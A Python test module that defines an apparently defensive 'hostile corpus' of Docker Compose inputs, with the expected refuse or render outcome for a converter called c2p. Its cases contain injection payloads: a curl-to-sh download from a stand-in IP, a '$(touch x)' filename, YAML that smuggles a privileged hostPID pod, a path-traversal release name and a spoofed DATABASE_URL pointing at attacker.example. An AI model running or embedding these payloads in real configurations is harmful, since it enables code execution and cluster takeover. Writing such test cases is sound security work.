"""The hostile corpus: compose files written to attack c2p (../shared/reviews/2026-12-hostile-input.md and more of
each class). Each case is data: the compose document (written with the YAML library, so every odd character is
exact), side files, and what must happen: "refuse" (exit 2, one line, nothing written), "render" (exit 0, output
whose parse equals what compose said), or "either" where both are acceptable for c2p's rules.

Values that must come out as one unit carry a marker, `ZQX` plus a number, at their start (so that a value split
into shell words or YAML lines leaves the marker with a fragment, and a `#` later in it cannot hide the marker as a
comment); secret values carry `S3CR3T`. `units` lists the hostile strings whose marker may appear in output only
as part of the whole string.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

POD = "ZQX15: pwn\napiVersion: v1\nkind: Pod\nmetadata: {name: pwn}\nspec:\n  hostPID: true\n  containers:\n  - {name: x, image: x, securityContext: {privileged: true}}\n"
CURL = "; curl -s http://203.0.113.7/x | sh; #"


@dataclass(frozen=True)
class Case:
    name: str
    compose: dict[str, Any]
    expect: dict[str, str]  # command ("config", "inspect", "k8s", "aws") → "refuse" | "render" | "either"
    units: tuple[str, ...] = ()  # hostile strings that must stay whole wherever their marker shows
    files: dict[str, str] = field(default_factory=dict)  # side files, relative to the project
    compose_name: str = "compose.yaml"


def _all(outcome: str) -> dict[str, str]:
    return {c: outcome for c in ("config", "inspect", "k8s", "aws")}


def _app(**extra: Any) -> dict[str, Any]:
    return {"image": "ghcr.io/acme/web:1.0", **extra}


PG = {"image": "postgres:16", "environment": {"POSTGRES_USER": "app", "POSTGRES_PASSWORD": "S3CR3T-pg-1",
                                               "POSTGRES_DB": "app"}, "volumes": ["pgdata:/var/lib/postgresql/data"]}
PG_URL = "postgres://app:S3CR3T-pg-1@db:5432/app"

ENV_NAME_INJECTION = ("A\n        value: x\n    securityContext: {privileged: true, runAsUser: 0}\nhostPID: true\n"
                      "hostNetwork: true\ninitContainers: []\nZQX1: x")

CASES: tuple[Case, ...] = (
    # 1. env var names that are pod-spec YAML
    Case("env-name-injection", {"services": {"web": _app(environment={ENV_NAME_INJECTION: "v"})}},
         {"config": "either", "inspect": "either", "k8s": "refuse", "aws": "refuse"}),
    Case("env-name-helm", {"services": {"web": _app(environment={"A{{ .Release.Name }}ZQX2": "v"})}},
         {"config": "either", "inspect": "either", "k8s": "refuse", "aws": "either"}),
    # 2. newlines in values become objects
    Case("value-newline-objects", {"services": {
        "cache": {"image": "redis:7.2", "command": ["redis-server", "--maxmemory-policy", "allkeys-lru\n---\n" + POD]},
        "web": _app(environment={"REDIS_URL": "redis://cache:6379/0", "NOTE": "line1\n---\n" + POD}),
    }}, _all("render"), units=(POD,)),
    # a database name that cannot be one shell word on one line (the runbooks use it): refused, or kept whole
    Case("database-newline", {"services": {
        "db": {**PG, "environment": {**PG["environment"], "POSTGRES_DB": "app\n---\n" + POD}},
        "web": _app(environment={"DATABASE_URL": PG_URL})}, "volumes": {"pgdata": {}}},
        {**_all("either"), "config": "render"}, units=(POD,)),
    # 3. x-c2p option strings
    Case("xc2p-storage-class", {"services": {"db": {**PG, "x-c2p": {"k8s": {
        "storage_class": "standard\n  dataSource: {kind: PersistentVolumeClaim, name: ZQX3}"}}},
        "web": _app(environment={"DATABASE_URL": PG_URL})}, "volumes": {"pgdata": {}}},
        {"config": "render", "inspect": "either", "k8s": "refuse", "aws": "either"}),
    Case("xc2p-vault-release", {"services": {
        "vault": {"image": "hashicorp/vault:1.18", "command": ["server"], "volumes": ["vdata:/vault/data"],
                  "x-c2p": {"k8s": {"release": "v\n---\n" + POD}}},
        "web": _app(environment={"VAULT_ADDR": "http://vault:8200"})}, "volumes": {"vdata": {}}},
        {"config": "render", "inspect": "either", "k8s": "refuse", "aws": "either"}),
    Case("xc2p-release-escape", {"services": {
        "vault": {"image": "hashicorp/vault:1.18", "command": ["server"], "volumes": ["vdata:/vault/data"],
                  "x-c2p": {"k8s": {"release": "../../../escaped"}}},
        "web": _app(environment={"VAULT_ADDR": "http://vault:8200"})}, "volumes": {"vdata": {}}},
        {"config": "render", "inspect": "either", "k8s": "refuse", "aws": "either"}),
    # 4. URL re-encoding must not change the destination
    Case("url-reencode", {"services": {"db": PG, "web": _app(environment={
        "DATABASE_URL": PG_URL + "?application_name=web%26host%3DZQX4.example&%7Bpassword%7D=1&host=ZQX5.example"})},
        "volumes": {"pgdata": {}}}, {**_all("render")}),
    # 5. shell injection into the runbooks
    Case("shell-injection", {"services": {
        "db": {**PG, "environment": {"POSTGRES_USER": "ZQX6app" + CURL, "POSTGRES_PASSWORD": "S3CR3T-pg-2",
                                     "POSTGRES_DB": "ZQX7app" + CURL}},
        "web": _app(environment={"DATABASE_URL": "postgres://u:S3CR3T-pg-2@db:5432/x"},
                    secrets=["tok"])},
        "volumes": {"pgdata": {}}, "secrets": {"tok": {"file": "./ZQX8tok$$(touch x)"}}},
        {**_all("render"), "config": "render"}, units=("ZQX6app" + CURL, "ZQX7app" + CURL, "ZQX8tok$(touch x)"),
        files={"ZQX8tok$(touch x)": "S3CR3T-file-1\n"}),
    # 8. secrets in clear
    Case("secrets-in-clear", {"services": {"web": _app(
        environment={"PGPASS": "S3CR3T-1", "DB_CONN": "host=db user=u password=S3CR3T-2 dbname=x",
                     "JAVA_OPTS": "-Xmx1g -Dspring.datasource.password=S3CR3T-3", "AUTH_HEADER": "Bearer S3CR3T-4",
                     "FROM_DOTENV": "${DOTENV_SECRET}", "CALLBACK": "https://u:S3CR3T-6@hooks.example/x"},
        command=["serve", "--password", "S3CR3T-7", "--token", "S3CR3T-8"],
        healthcheck={"test": ["CMD-SHELL", "PGPASSWORD=S3CR3T-9 pg_isready -h db"]})}},
        {**_all("render"), "config": "either"}, files={".env": "DOTENV_SECRET=S3CR3T-5\n"}),
    # 9. crashes
    Case("redis-port-abc", {"services": {"cache": {"image": "redis:7.2", "command": ["redis-server", "--port", "abc"]},
                                         "web": _app(environment={"REDIS_URL": "redis://cache:6379"})}},
         _all("either")),
    Case("user-superscript", {"services": {"web": _app(user="²")}}, _all("either")),
    Case("user-group-superscript", {"services": {"web": _app(user="1000:²", group_add=["²"])}}, _all("either")),
    Case("restart-superscript", {"services": {"web": _app(restart="on-failure:²")}}, _all("either")),
    Case("xc2p-types", {"services": {"db": {**PG, "x-c2p": {"k8s": {"parameters": "s", "resources": "s"}}},
                                     "web": _app(environment={"DATABASE_URL": PG_URL})}, "volumes": {"pgdata": {}}},
         {"config": "render", "inspect": "either", "k8s": "refuse", "aws": "either"}),
    Case("xc2p-sentinels", {"services": {"cache": {"image": "redis:7.2", "x-c2p": {"k8s": {"sentinels": "three"}}},
                                         "web": _app(environment={"REDIS_URL": "redis://cache:6379"})}},
         {"config": "render", "inspect": "either", "k8s": "refuse", "aws": "either"}),
    # 10. hangs
    Case("env-file-dev-zero", {"services": {"web": _app(env_file=["/dev/zero"])}}, _all("refuse")),
    Case("env-file-fifo", {"services": {"web": _app(env_file=["./fifo.env"])}}, _all("refuse"),
         files={"fifo.env": "<fifo>"}),
    Case("bind-mount-fifo", {"services": {"web": _app(volumes=["./conf:/etc/app:ro"])}},
         {**_all("either"), "config": "render"}, files={"conf/app.conf": "a=1\n", "conf/pipe": "<fifo>"}),
    Case("long-value", {"services": {"web": _app(environment={"LONG": "a" * 100_000, "URLISH": "x://" + "a" * 50_000})}},
         {**_all("render")}),
    # 11. broken output with exit 0
    Case("service-newline", {"services": {"db\n": _app()}}, _all("refuse")),
    Case("service-digit-first", {"services": {"1web": _app(ports=["8080:8080"])}},
         {**_all("render"), "k8s": "either", "aws": "either"}),
    Case("yaml11-scalars", {"services": {"web": _app(environment={
        "y": "y", "N": "n", "OCT": "0o17", "EXP": "1e3", "BOOL": "on", "NUL": "~", "ROCKET": "ZQX9🚀",
        "FEED": "a\fb", "DOLLAR_HCL": "ZQX10$${var.x}%{if true}", "QUOTE": "a\"b\\c'd"})}},
        {**_all("render")}, units=("ZQX9🚀", "ZQX10${var.x}%{if true}")),
    Case("compose-file-quote", {"services": {"web": _app()}}, _all("render"), compose_name='we"ird.yml'),
    # 12. collisions
    Case("collide-dash-underscore", {"services": {"my_app": _app(), "my-app": _app(image="ghcr.io/acme/other:1")}},
         {"config": "render", "inspect": "render", "k8s": "refuse", "aws": "either"}),
    Case("collide-prefix", {"services": {"a" * 45 + "1": _app(), "a" * 45 + "2": _app()}},
         {"config": "render", "inspect": "render", "k8s": "refuse", "aws": "either"}),
    Case("collide-punctuation", {"services": {"___": _app(), "...": _app()}},
         {"config": "either", "inspect": "either", "k8s": "refuse", "aws": "either"}),
    Case("collide-clusters", {"services": {"db.main": PG, "db_main": {**PG, "volumes": ["pg2:/var/lib/postgresql/data"]},
                                           "web": _app(environment={"DATABASE_URL": "postgres://app:S3CR3T-pg-1@db.main/app",
                                                                    "DB2_URL": "postgres://app:S3CR3T-pg-1@db_main/app"})},
                              "volumes": {"pgdata": {}, "pg2": {}}},
         {"config": "render", "inspect": "render", "k8s": "refuse", "aws": "either"}),
    Case("reserved-redis-master", {"services": {"redis": {"image": "redis:7.2"}, "redis-master": _app(ports=["80:80"]),
                                                "web": _app(environment={"REDIS_URL": "redis://redis:6379"})}},
         {"config": "render", "inspect": "render", "k8s": "refuse", "aws": "either"}),
    Case("reserved-db-rw", {"services": {"db": PG, "db-rw": _app(ports=["5432:5432"]),
                                         "web": _app(environment={"DATABASE_URL": PG_URL})}, "volumes": {"pgdata": {}}},
         {"config": "render", "inspect": "render", "k8s": "refuse", "aws": "either"}),
    # 13. Kubernetes $(VAR) expansion
    Case("dollar-expansion", {"services": {"web": _app(
        environment={"A_PREFIX": "/srv", "DATA": "$$(A_PREFIX)/dataZQX11", "COST": "cost$$$$5ZQX12"},
        command=["sh", "-c", "echo pid=$$$$ $$(A_PREFIX) ZQX13"])}}, _all("render")),
    # 14. spoofed env-file lines
    Case("env-spoof", {"services": {"web": _app(environment={
        "GREETING": "ZQX14hello\nDATABASE_URL=postgres://attacker.example/x\n# x"})}}, _all("render"),
         units=("ZQX14hello\nDATABASE_URL=postgres://attacker.example/x\n# x",)),
)
